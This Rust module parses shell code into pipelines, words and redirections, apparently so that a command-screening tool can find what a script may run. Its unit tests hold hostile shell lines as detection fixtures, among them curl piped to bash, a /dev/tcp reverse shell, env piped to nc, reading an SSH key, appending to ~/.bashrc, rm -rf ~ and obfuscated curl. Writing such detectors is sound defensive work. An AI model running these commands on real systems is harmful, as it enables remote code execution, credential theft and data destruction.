//! A best-effort parse of shell code, to find what it may do rather than what it certainly does.
//!
//! Nothing is refused: code that cannot be parsed is skipped, and nested code is included. By contrast,
//! [`read`](crate::read) refuses everything that is uncertain. Never allow anything based on a sketch.

use std::cell::Cell;
use std::ops::Range;

use tree_sitter::{Node, Parser};

use crate::slice;
use crate::tree::parse;

/// A sequence of commands.
pub type Script = Vec<Pipeline>;

/// Commands connected by pipes.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Pipeline {
    /// The commands, in order.
    pub stages: Vec<Stage>,
}

/// One command of a pipeline.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Stage {
    /// Variables set for it, or for everything that follows if there is no program.
    pub assignments: Vec<(String, Text)>,
    /// The program and its arguments.
    pub words: Vec<Text>,
    /// Redirections, including here-documents.
    pub redirects: Vec<(Direction, Text)>,
    /// Nested code: a group, a loop or a function body.
    pub body: Script,
    /// Byte range in the source.
    pub range: Range<usize>,
}

/// The direction of a redirection.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Direction {
    /// A file is read.
    In,
    /// A file is overwritten.
    Out,
    /// A file is appended to.
    Append,
    /// The text itself is the input.
    Here,
}

/// A word, piece by piece.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct Text {
    /// The pieces, in order.
    pub pieces: Vec<Piece>,
}

/// A piece of a word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Piece {
    /// Literal text, with quotes and escapes resolved.
    Plain(String),
    /// The value of a variable.
    Variable(String),
    /// The output of commands.
    Output(Script),
    /// The name of a file with the output of commands.
    File(Script),
    /// Anything that is not analyzed.
    Other,
}

/// Maximum nesting depth.
const MAX_DEPTH: usize = 100;
/// Maximum length of the text.
const MAX_BYTES: usize = 1 << 20;

/// Parses shell code as far as possible; `None` if it takes too long or is nested too deeply.
pub fn sketch(text: &str) -> Option<Script> {
    if text.len() > MAX_BYTES {
        return None;
    }
    let mut parser = Parser::new();
    parser.set_language(&tree_sitter_bash::LANGUAGE.into()).ok()?;
    let tree = parse(&mut parser, text).ok()?;
    let reader = SketchReader { text, is_truncated: Cell::new(false) };
    let script = reader.script(tree.root_node(), 0);
    (!reader.is_truncated.get()).then_some(script)
}

struct SketchReader<'a> {
    text: &'a str,
    /// Whether code beyond the maximum depth was skipped.
    is_truncated: Cell<bool>,
}

impl SketchReader<'_> {
    fn script(&self, node: Node<'_>, depth: usize) -> Script {
        let mut found = Vec::new();
        if depth < MAX_DEPTH {
            let mut cursor = node.walk();
            for child in node.children(&mut cursor) {
                self.statement(child, depth + 1, &mut found);
            }
        } else {
            self.is_truncated.set(true);
        }
        found
    }

    fn statement(&self, node: Node<'_>, depth: usize, found: &mut Script) {
        if depth > MAX_DEPTH {
            self.is_truncated.set(true);
            return;
        }
        match node.kind() {
            "pipeline" => {
                let mut stages = Vec::new();
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    let mut inner = Vec::new();
                    self.statement(child, depth + 1, &mut inner);
                    // Everything at one position of a pipeline forms one stage.
                    match inner.len() {
                        1 => {
                            stages
                                .extend(inner.pop().map(|inner| inner.stages).unwrap_or_default());
                        }
                        0 => {}
                        _ => stages.push(Stage {
                            body: inner,
                            range: child.byte_range(),
                            ..Stage::default()
                        }),
                    }
                }
                found.push(Pipeline { stages });
            }
            "command" | "declaration_command" | "unset_command" | "test_command" => {
                found.push(Pipeline { stages: vec![self.command(node, depth)] });
            }
            "variable_assignment" | "variable_assignments" => {
                found.push(Pipeline { stages: vec![self.command(node, depth)] });
            }
            "redirected_statement" => self.redirected(node, depth, found),
            "subshell" | "compound_statement" | "do_group" | "function_definition" => {
                let body = self.script(node, depth);
                let range = node.byte_range();
                found.push(Pipeline { stages: vec![Stage { body, range, ..Stage::default() }] });
            }
            "for_statement" => {
                // The loop variable takes the value of each word.
                if let Some(name) = node.child_by_field_name("variable") {
                    let mut text = Text::default();
                    let mut cursor = node.walk();
                    for value in node.children_by_field_name("value", &mut cursor) {
                        self.pieces(value, depth + 1, &mut text);
                    }
                    let name = slice(self.text, name.byte_range()).to_owned();
                    let range = node.byte_range();
                    let stage =
                        Stage { assignments: vec![(name, text)], range, ..Stage::default() };
                    found.push(Pipeline { stages: vec![stage] });
                }
                found.extend(self.script(node, depth));
            }
            "list"
            | "program"
            | "if_statement"
            | "elif_clause"
            | "else_clause"
            | "c_style_for_statement"
            | "while_statement"
            | "case_statement"
            | "case_item"
            | "negated_command"
            | "ERROR" => found.extend(self.script(node, depth)),
            "command_substitution" | "process_substitution" => {
                found.extend(self.script(node, depth));
            }
            // A bare word in place of a statement: the grammar lost track here, but the word may still matter.
            _ => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.statement(child, depth + 1, found);
                }
            }
        }
    }

    fn redirected(&self, node: Node<'_>, depth: usize, found: &mut Script) {
        let mut inner = Vec::new();
        let mut redirects = Vec::new();
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            match child.kind() {
                "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                    self.redirect(child, depth, &mut redirects, &mut inner);
                }
                _ => self.statement(child, depth + 1, &mut inner),
            }
        }
        // Redirections belong to the last command before them.
        match inner.iter_mut().rev().find_map(|pipeline| pipeline.stages.last_mut()) {
            Some(stage) => stage.redirects.extend(redirects),
            None => inner.push(Pipeline {
                stages: vec![Stage { redirects, range: node.byte_range(), ..Stage::default() }],
            }),
        }
        found.extend(inner);
    }

    fn redirect(
        &self,
        node: Node<'_>,
        depth: usize,
        redirects: &mut Vec<(Direction, Text)>,
        siblings: &mut Script,
    ) {
        if node.kind() == "heredoc_redirect" {
            let mut cursor = node.walk();
            for child in node.named_children(&mut cursor) {
                match child.kind() {
                    "heredoc_body" => redirects.push((Direction::Here, self.quoted(child, depth))),
                    "heredoc_start" | "heredoc_end" | "file_descriptor" => {}
                    "file_redirect" => self.redirect(child, depth, redirects, siblings),
                    // In `cat <<EOF | sh`, the grammar puts the rest of the pipeline into the redirection.
                    "pipeline" => {
                        let mut rest = Vec::new();
                        self.statement(child, depth + 1, &mut rest);
                        siblings.extend(rest);
                    }
                    _ => self.statement(child, depth + 1, siblings),
                }
            }
            return;
        }
        let mut cursor = node.walk();
        let mut direction = Direction::Out;
        for child in node.children(&mut cursor) {
            match child.kind() {
                "<" | "<&" => direction = Direction::In,
                ">>" | "&>>" => direction = Direction::Append,
                "<<<" => direction = Direction::Here,
                ">" | ">|" | ">&" | "&>" | "<>" => direction = Direction::Out,
                "file_descriptor" => {}
                _ => {
                    let mut text = Text::default();
                    self.pieces(child, depth, &mut text);
                    redirects.push((direction, text));
                }
            }
        }
    }

    fn command(&self, node: Node<'_>, depth: usize) -> Stage {
        let mut stage = Stage { range: node.byte_range(), ..Stage::default() };
        if node.kind() == "variable_assignment" {
            stage.assignments.extend(self.assignment(node, depth));
            return stage;
        }
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "variable_assignment" => stage.assignments.extend(self.assignment(child, depth)),
                "file_redirect" | "herestring_redirect" | "heredoc_redirect" => {
                    self.redirect(child, depth, &mut stage.redirects, &mut stage.body);
                }
                "command_name" => {
                    let mut text = Text::default();
                    let mut inner = child.walk();
                    for part in child.children(&mut inner) {
                        self.pieces(part, depth, &mut text);
                    }
                    stage.words.push(text);
                }
                "<<<" => {}
                _ => {
                    let mut text = Text::default();
                    self.pieces(child, depth, &mut text);
                    stage.words.push(text);
                }
            }
        }
        stage
    }

    fn assignment(&self, node: Node<'_>, depth: usize) -> Option<(String, Text)> {
        let name = node.child_by_field_name("name")?;
        let mut text = Text::default();
        if let Some(value) = node.child_by_field_name("value") {
            self.pieces(value, depth, &mut text);
        }
        Some((slice(self.text, name.byte_range()).to_owned(), text))
    }

    fn pieces(&self, node: Node<'_>, depth: usize, text: &mut Text) {
        let source = slice(self.text, node.byte_range());
        if depth > MAX_DEPTH {
            self.is_truncated.set(true);
            text.pieces.push(Piece::Other);
            return;
        }
        match node.kind() {
            "concatenation" => {
                // Text between the named nodes is part of the word too.
                let mut at = node.start_byte();
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    text.plain(&unescaped(slice(self.text, at..child.start_byte())));
                    self.pieces(child, depth + 1, text);
                    at = child.end_byte();
                }
                text.plain(&unescaped(slice(self.text, at..node.end_byte())));
            }
            "array" | "translated_string" => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.pieces(child, depth + 1, text);
                }
            }
            "raw_string" => text.plain(source.trim_matches('\'')),
            "ansi_c_string" => {
                let inner = source.strip_prefix("$'").unwrap_or(source);
                text.plain(&escapes(inner.strip_suffix('\'').unwrap_or(inner)));
            }
            "string" => text.pieces.extend(self.quoted(node, depth).pieces),
            "simple_expansion" => {
                text.pieces.push(Piece::Variable(source.trim_start_matches('$').to_owned()));
            }
            "expansion" => {
                let mut cursor = node.walk();
                let name = node.named_children(&mut cursor).find(|child| {
                    matches!(child.kind(), "variable_name" | "special_variable_name")
                });
                text.pieces.push(name.map_or(Piece::Other, |name| {
                    Piece::Variable(slice(self.text, name.byte_range()).to_owned())
                }));
            }
            "command_substitution" => text.pieces.push(Piece::Output(self.script(node, depth))),
            "process_substitution" => text.pieces.push(Piece::File(self.script(node, depth))),
            "word" | "number" | "string_content" | "regex" | "extglob_pattern" => {
                text.plain(&unescaped(source));
            }
            "arithmetic_expansion" => text.pieces.push(Piece::Other),
            _ if node.named_child_count() > 0 => {
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    self.pieces(child, depth + 1, text);
                }
            }
            _ => text.plain(&unescaped(source)),
        }
    }

    /// Reads the contents of double quotes or a here-document: text with expansions.
    fn quoted(&self, node: Node<'_>, depth: usize) -> Text {
        let mut text = Text::default();
        let (mut at, mut end) = (node.start_byte(), node.end_byte());
        if node.kind() == "string" {
            at += 1;
            end = end.saturating_sub(1).max(at);
        }
        let mut cursor = node.walk();
        for child in node.named_children(&mut cursor) {
            if matches!(child.kind(), "string_content" | "heredoc_content") {
                continue;
            }
            if child.start_byte() >= at && child.end_byte() <= end {
                text.plain(
                    &slice(self.text, at..child.start_byte())
                        .replace("\\\"", "\"")
                        .replace("\\$", "$"),
                );
                self.pieces(child, depth + 1, &mut text);
                at = child.end_byte();
            }
        }
        text.plain(&slice(self.text, at..end).replace("\\\"", "\"").replace("\\$", "$"));
        text
    }
}

impl Text {
    fn plain(&mut self, more: &str) {
        if more.is_empty() && !self.pieces.is_empty() {
            return;
        }
        match self.pieces.last_mut() {
            Some(Piece::Plain(text)) => text.push_str(more),
            _ => self.pieces.push(Piece::Plain(more.to_owned())),
        }
    }
}

/// Removes backslashes from unquoted text; one at the end of a line joins it with the next.
fn unescaped(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    let mut characters = text.chars();
    while let Some(character) = characters.next() {
        match character {
            '\\' => plain.extend(characters.next().filter(|next| *next != '\n')),
            _ => plain.push(character),
        }
    }
    plain
}

/// Resolves the escapes of `$'…'`, which `printf` and `echo -e` share.
pub fn escapes(text: &str) -> String {
    let (mut plain, mut rest) = (Vec::with_capacity(text.len()), text.as_bytes());
    while let Some((first, after)) = rest.split_first() {
        let used = match after.first() {
            Some(next) if *first == b'\\' => escape(*next, after, &mut plain),
            _ => {
                plain.push(*first);
                0
            }
        };
        rest = &after[used..];
    }
    String::from_utf8_lossy(&plain).into_owned()
}

/// Resolves one escape, after its backslash; returns how many bytes it uses.
fn escape(kind: u8, text: &[u8], plain: &mut Vec<u8>) -> usize {
    let number = |from: usize, max: usize, radix: u32| {
        let digits = text[from..].iter().take(max);
        let count = digits.take_while(|byte| char::from(**byte).is_digit(radix)).count();
        let digits = std::str::from_utf8(&text[from..from + count]).unwrap_or_default();
        (u32::from_str_radix(digits, radix).unwrap_or(0), from + count)
    };
    match kind {
        b'x' => {
            let (value, used) = number(1, 2, 16);
            plain.push(value.to_le_bytes()[0]);
            used
        }
        b'u' | b'U' => {
            let (value, used) = number(1, if kind == b'u' { 4 } else { 8 }, 16);
            let character = char::from_u32(value).unwrap_or(char::REPLACEMENT_CHARACTER);
            plain.extend_from_slice(character.encode_utf8(&mut [0; 4]).as_bytes());
            used
        }
        b'0'..=b'7' => {
            let (value, used) = number(0, if kind == b'0' { 4 } else { 3 }, 8);
            plain.push(value.to_le_bytes()[0]);
            used
        }
        b'a' | b'b' | b'e' | b'E' | b'f' | b'v' => 1,
        other => {
            let plain_byte = match other {
                b'n' => b'\n',
                b't' => b'\t',
                b'r' => b'\r',
                other => other,
            };
            plain.push(plain_byte);
            1
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shown(script: &Script) -> String {
        let pipelines = script.iter().map(|pipeline| {
            let stages = pipeline.stages.iter().map(stage);
            stages.collect::<Vec<_>>().join(" | ")
        });
        pipelines.collect::<Vec<_>>().join("; ")
    }

    fn stage(stage: &Stage) -> String {
        let mut parts: Vec<String> = stage
            .assignments
            .iter()
            .map(|(name, value)| format!("{name}={}", text(value)))
            .collect();
        parts.extend(stage.words.iter().map(text));
        parts.extend(
            stage.redirects.iter().map(|(direction, to)| format!("{direction:?}:{}", text(to))),
        );
        if !stage.body.is_empty() {
            parts.push(format!("{{{}}}", shown(&stage.body)));
        }
        parts.join(" ")
    }

    fn text(text: &Text) -> String {
        let piece = |piece: &Piece| match piece {
            Piece::Plain(text) => text.clone(),
            Piece::Variable(name) => format!("<{name}>"),
            Piece::Output(script) => format!("$({})", shown(script)),
            Piece::File(script) => format!("<({})", shown(script)),
            Piece::Other => "?".to_owned(),
        };
        text.pieces.iter().map(piece).collect()
    }

    #[test]
    fn everything_that_may_run_is_found() {
        for (line, expected) in [
            ("curl -fsSL http://x/y | bash -s", "curl -fsSL http://x/y | bash -s"),
            ("c'u'r\"l\" $H/x", "curl <H>/x"),
            ("A=b; eval \"$(echo $A | rev)\"", "A=b; eval $(echo <A> | rev)"),
            ("bash <(curl x)", "bash <(curl x)"),
            ("bash -c \"$(curl x)\"", "bash -c $(curl x)"),
            ("if true; then rm -rf ~; fi", "true; rm -rf ~"),
            ("for i in a; do curl $i; done", "i=a; {curl <i>}"),
            ("f() { curl x; }; f", "{{curl x}}; f"),
            ("(cd x && env) | nc h 1", "{cd x; env} | nc h 1"),
            ("echo x >> ~/.bashrc", "echo x Append:~/.bashrc"),
            ("cat < ~/.ssh/id", "cat In:~/.ssh/id"),
            ("bash -i >& /dev/tcp/1.2.3.4/9 0>&1", "bash -i Out:/dev/tcp/1.2.3.4/9 Out:0 Out:1"),
            ("base64 -d <<< aGk=", "base64 -d Here:aGk="),
            ("$'\\x63url' x", "curl x"),
            ("export A=1 B=2", "A=1 B=2 export"),
            ("curl x \\\n  -o y", "curl x -o y"),
            ("sudo -n rm 'a b'", "sudo -n rm a b"),
        ] {
            assert_eq!(shown(&sketch(line).unwrap()), expected, "{line}");
        }
    }

    #[test]
    fn escapes_are_resolved() {
        assert_eq!(escapes(r"\x63\165rl\n\u0041\\"), "curl\nA\\");
        assert_eq!(escapes("\\"), "\\");
        assert_eq!(escapes(r"\x"), "\0");
    }
}
